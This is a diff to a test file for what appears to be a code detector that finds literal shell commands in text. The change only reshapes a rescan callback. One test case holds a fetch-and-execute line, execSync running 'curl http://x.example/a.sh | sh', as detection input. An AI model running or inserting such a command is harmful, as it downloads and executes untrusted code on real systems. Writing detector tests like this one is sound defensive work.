@@ -222,7 +222,13 @@ describe('literal commands', () => {
     ["child_process.execSync('curl http://x.example/a.sh | sh')", 'curl http://x.example/a.sh | sh'],
   ])('hands the command of %j to the rescan', (text, command) => {
     const rescans: string[] = [];
-    codeDetector.scan(text, { report: () => {}, rescan: (decoded) => rescans.push(decoded) });
+    codeDetector.scan(text, {
+      report: () => {},
+      rescan: (decoded) => {
+        rescans.push(decoded);
+        return undefined;
+      },
+    });
     expect(rescans).toEqual([command]);
   });
 
